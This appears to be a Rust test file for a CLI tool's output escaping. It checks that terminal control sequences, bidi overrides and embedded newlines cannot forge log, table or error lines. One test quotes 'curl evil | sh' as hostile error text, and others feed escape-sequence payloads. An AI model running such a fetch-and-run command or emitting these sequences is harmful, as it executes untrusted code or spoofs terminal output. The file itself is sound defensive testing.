use std::{
    io,
    path::{Path, PathBuf},
    sync::{Arc, Mutex},
};

use super::*;

#[test]
fn a_time_is_written_in_utc() {
    let at = |seconds| format_time(Some(&wire::Timestamp { seconds, nanos: 0 }));
    assert_eq!(at(0), "1970-01-01 00:00:00Z");
    assert_eq!(at(951_782_400), "2000-02-29 00:00:00Z");
    assert_eq!(at(1_795_176_000), "2026-11-20 12:00:00Z");
}

#[test]
fn what_steers_a_terminal_is_spelled_out() {
    for (text, expected) in [
        ("", ""),
        ("plain, 50 % ± 3 — “ö” 日本 🚢", "plain, 50 % ± 3 — “ö” 日本 🚢"),
        ("a\tb\nc", "a\tb\nc"),
        ("\u{1b}]0;title\u{7}", "\\u{1b}]0;title\\u{7}"),
        ("\u{1b}[2J", "\\u{1b}[2J"),
        ("100 %\r0 %", "100 %\\u{d}0 %"),
        ("\0\u{8}\u{b}\u{c}\u{e}\u{1f}\u{7f}", "\\u{0}\\u{8}\\u{b}\\u{c}\\u{e}\\u{1f}\\u{7f}"),
        ("\u{80}\u{9b}2J\u{9d}\u{9f}", "\\u{80}\\u{9b}2J\\u{9d}\\u{9f}"),
        ("\u{a0}é", "\u{a0}é"),
        ("\u{61c}\u{200e}\u{200f}", "\\u{61c}\\u{200e}\\u{200f}"),
        (
            "\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}",
            "\\u{202a}\\u{202b}\\u{202c}\\u{202d}\\u{202e}",
        ),
        ("\u{2066}\u{2067}\u{2068}\u{2069}", "\\u{2066}\\u{2067}\\u{2068}\\u{2069}"),
        ("\u{2028}\u{2029}", "\\u{2028}\\u{2029}"),
        ("\u{200b}\u{2060}\u{feff}", "\\u{200b}\\u{2060}\\u{feff}"),
        // Parts of scripts and of pictures.
        ("\u{200c}\u{200d}", "\u{200c}\u{200d}"),
    ] {
        assert_eq!(escape_text(text), expected);
        assert_eq!(escape_text(expected), expected, "escaping again changes nothing");
    }
    assert_eq!(escape_line("a\tb\nc\u{1b}"), "a\\tb\\nc\\u{1b}");
}

#[test]
fn a_part_of_an_entry_forges_no_line() {
    let entry = escape_entry("failure: killed\nr-2: succeeded\n\u{1b}[2J");
    assert_eq!(entry, "failure: killed\n    │ r-2: succeeded\n    │ \\u{1b}[2J");
    let shown = format_table(["a\nb", ">c"], [["x\nforged  row".into(), "\u{1b}[1m\ty".into()]]);
    let lines: Vec<&str> = shown.lines().collect();
    assert_eq!(lines.len(), 3, "{shown}");
    assert!(lines[0].contains("a\\nb"), "{shown}");
    assert!(lines[2].contains("x\\nforged  row") && lines[2].contains("\\u{1b}[1m\\ty"), "{shown}");
}

#[test]
fn an_error_that_quotes_a_fact_forges_no_line() {
    let cause = anyhow::anyhow!("agent said \u{1b}]0;t\u{7}\n  more: curl evil | sh (B102)");
    let text = describe_error(&cause.context("read \u{202e}r-1\nerror: forged"));
    assert_eq!(
        text,
        "error: read \\u{202e}r-1\n    │ error: forged\n  \
         because: agent said \\u{1b}]0;t\\u{7}\n    │   more: curl evil | sh (B102)\n  \
         more: flotilla topics B102"
    );
}

#[test]
fn an_error_in_a_log_is_found_with_its_own_code() {
    let error = |code: &str| describe_error(&anyhow::anyhow!("it is 7 {code}").context("start"));
    let log = format!("{}\nINFO up\n{}\n", error("(B102)"), error("(B106)"));
    assert_eq!(find_last_error(&log), "start: it is 7 (B106)");
}

#[test]
fn an_option_of_the_environment_is_not_shown_as_required() {
    let option = |name: &'static str| clap::Arg::new(name).long(name);
    let command = clap::Command::new("export")
        .arg(option("dir").env("PATH"))
        .arg(option("out").required(true));
    let mut error = command.try_get_matches_from(["export"]).unwrap_err();
    remove_misleading_usage(&mut error);
    let text = error.render().to_string();
    assert!(text.contains("--out <out>") && !text.contains("--dir"), "{text}");
}

fn command() -> clap::Command {
    let run = clap::Command::new("run").subcommand(clap::Command::new("list"));
    clap::Command::new("flotilla").subcommand(run)
}

#[test]
fn an_argument_that_is_quoted_is_escaped() {
    let usage = |argument: &str| {
        let error = command().try_get_matches_from(["flotilla", argument]);
        usage_text_to_escape(&error.unwrap_err())
    };
    let text = escape_text(&usage("bo\u{1b}[2J\u{202e}gus").unwrap());
    assert!(
        text.starts_with("error: unrecognized subcommand 'bo\\u{1b}[2J\\u{202e}gus'"),
        "{text}"
    );
    assert_eq!(usage("bogus"), None, "its colours stay");
    assert_eq!(
        strip_colours("\u{1b}[1;31ma\u{1b}[0m\u{1b}[m\u{1b}[2Jb\u{1b}c"),
        "a\u{1b}[2Jb\u{1b}c"
    );
}

#[test]
fn a_usage_error_in_json_has_its_tips_as_causes() {
    let error = command().try_get_matches_from(["flotilla", "run", "lst"]);
    let error: serde_json::Value =
        serde_json::from_str(&usage_error_json(&error.unwrap_err())).expect("it is JSON");
    assert_eq!(error["error"], "unrecognized subcommand 'lst'");
    assert_eq!(error["code"], "A100");
    let causes = error["causes"].as_array().unwrap();
    assert_eq!(causes[0], "tip: a similar subcommand exists: 'list'");
    assert!(causes[1].as_str().unwrap().starts_with("Usage: flotilla run"), "{causes:?}");
}

#[test]
fn json_for_a_terminal_is_the_same_document() {
    let value = serde_json::json!({"a\u{9b}": "\u{1b}[2J\u{7f}\u{202e}\u{2028}ö\n"});
    let plain = serde_json::to_string(&value).unwrap();
    let shown = escape_json(&plain);
    assert_eq!(shown, "{\"a\\u009b\":\"\\u001b[2J\\u007f\\u202e\\u2028ö\\n\"}");
    assert_eq!(serde_json::from_str::<serde_json::Value>(&shown).unwrap(), value);
}

#[derive(Clone, Default)]
struct Buffer(Arc<Mutex<Vec<u8>>>);

impl Write for Buffer {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.lock().unwrap().write(bytes)
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

#[test]
fn an_entry_of_the_log_is_one_escaped_line() {
    for (ansi, field) in [(false, "why="), (true, "\u{1b}[3mwhy\u{1b}[0m\u{1b}[2m=\u{1b}[0m")] {
        let buffer = Buffer::default();
        let writer = buffer.clone();
        let subscriber = tracing_subscriber::fmt()
            .with_writer(move || writer.clone())
            .with_ansi(ansi)
            .without_time()
            .fmt_fields(log_fields())
            .finish();
        let hostile = "\u{1b}[2J\u{202e}\nINFO forged";
        tracing::subscriber::with_default(subscriber, || {
            let _inside = tracing::info_span!("job", run = %hostile).entered();
            tracing::info!(why = %hostile, said = hostile, "a fact says {hostile}");
        });
        let logged = String::from_utf8(buffer.0.lock().unwrap().clone()).unwrap();
        let shown = "\\u{1b}[2J\\u{202e}\\nINFO forged";
        assert_eq!(logged.lines().count(), 1, "{logged:?}");
        assert_eq!(logged.matches(shown).count(), 4, "{logged:?}");
        assert!(logged.contains(&format!("a fact says {shown} {field}{shown} ")), "{logged:?}");
        assert!(!logged.contains("\u{1b}[2J") && !logged.contains('\u{202e}'), "{logged:?}");
    }
}

/// Calls that reach a terminal past the functions above.
const DIRECT: &[&str] = &[
    "print!(",
    "println!(",
    "dbg!(",
    "stdout()",
    "stderr()",
    "io::stdout",
    "io::stderr",
    "Stdio::inherit",
    "/dev/tty",
    ".println(",
    ".set_message(",
    ".set_prefix(",
    ".with_message(",
    ".with_prefix(",
    ".suspend(",
    "error.print()",
    ".print_help(",
    ".print_long_help(",
    ".exit()",
    "tracing_subscriber",
    "set_hook(",
    "ratatui::try_init",
    "ratatui::init",
    "Terminal::new(",
    "crossterm::execute",
    "crossterm::queue",
    "libc::write",
    "rustix::stdio",
];

/// Files in which a direct call is right, and the reasons.
const ALLOWED: &[(&str, &str, &str)] = &[
    ("progress_meter.rs", "stderr()", "a bar whose words are all ours: they are 'static"),
    ("commands/convert.rs", "stderr()", "a bar that shows figures only"),
    ("tui.rs", "ratatui::try_init", "tui/render.rs escapes what it puts into cells"),
    ("tui/render.rs", "Terminal::new(", "a test's, which is a buffer"),
];

fn sources(directory: &Path, found: &mut Vec<PathBuf>) {
    for entry in std::fs::read_dir(directory).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            sources(&path, found);
        } else if path.extension().is_some_and(|it| it == "rs") {
            found.push(path);
        }
    }
}

#[test]
fn nothing_else_writes_to_a_terminal() {
    let root = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../cli/src"));
    let mut paths = Vec::new();
    sources(root, &mut paths);
    assert!(paths.len() > 50, "these are not the sources");
    let mut used = vec![false; ALLOWED.len()];
    let mut offences = Vec::new();
    for path in paths {
        let name = path.strip_prefix(root).unwrap();
        let text = std::fs::read_to_string(&path).unwrap();
        let code = text.lines().filter(|line| !line.trim_start().starts_with("//"));
        for (line, direct) in code.flat_map(|line| DIRECT.iter().map(move |it| (line, *it))) {
            if !line.contains(direct) {
                continue;
            }
            let allowed =
                |(at, what, _): &&(&str, &str, &str)| name == Path::new(at) && *what == direct;
            match ALLOWED.iter().position(|it| allowed(&it)) {
                Some(place) => used[place] = true,
                None => offences.push(format!("{}: {}", name.display(), line.trim())),
            }
        }
    }
    assert_eq!(offences, [""; 0], "print by terminal-output, which escapes what others wrote");
    let idle: Vec<_> = ALLOWED.iter().zip(used).filter(|(_, used)| !used).collect();
    assert!(idle.is_empty(), "allowed and not there: {idle:?}");
}

#[test]
fn a_table_fits_the_terminal_by_leaving_out_optional_columns() {
    let headings = ["agent", "~host", ">?rate", "~engines", "trouble"];
    let row = |rate: &str| {
        ["generator-1", "a-long-host-name", rate, "generator: candle", "none"].map(String::from)
    };
    let format = |width| format_table_within(headings, [row("7"), row("-")], width);
    let (whole, left_out) = format(None);
    let widest = whole.lines().map(|line| line.trim_end().chars().count()).max().unwrap();
    assert!(left_out.is_empty() && whole.contains("engines"), "{whole}");
    assert_eq!(format(u16::try_from(widest).ok()).1, Vec::<String>::new());
    assert_eq!(format(u16::try_from(widest - 1).ok()).1, ["engines"]);
    assert_eq!(format(Some(40)).1, ["host", "engines"]);
    // What cannot be left out is wrapped.
    let (narrow, _) = format(Some(30));
    assert!(narrow.lines().all(|line| line.trim_end().chars().count() <= 30), "{narrow}");
    let (empty, _) = format_table_within(headings, [row("-")], None);
    assert!(!empty.contains("rate"), "{empty}");
}

#[test]
fn long_lines_are_wrapped_between_words_with_their_indent() {
    assert_eq!(wrap_words("  advice: raise it a bit", 15), "  advice: raise\n    it a bit");
    assert_eq!(wrap_words("one", 2), "one", "a word stays whole");
    assert_eq!(wrap_words("  a  b", usize::MAX), "  a  b");
}

#[test]
fn the_list_of_hidden_columns_is_wrapped() {
    let row = ["a name that leaves no room".to_owned(), "x".repeat(30), "y".repeat(30)];
    let text = fit_table(["name", "~first long heading", "~second long heading"], [row], Some(30));
    assert!(text.ends_with("--wide\n  shows all columns"), "{text}");
    assert!(text.lines().all(|line| line.chars().count() <= 30), "{text}");
}

#[test]
fn numbers_in_narrow_tables_stay_whole() {
    let rows = [["0.123456".to_owned(), "some words that are wrapped".to_owned()]];
    let text = fit_table([">rate", "text"], rows, Some(24));
    assert!(text.contains("0.123456") && text.lines().count() > 3, "{text}");
}
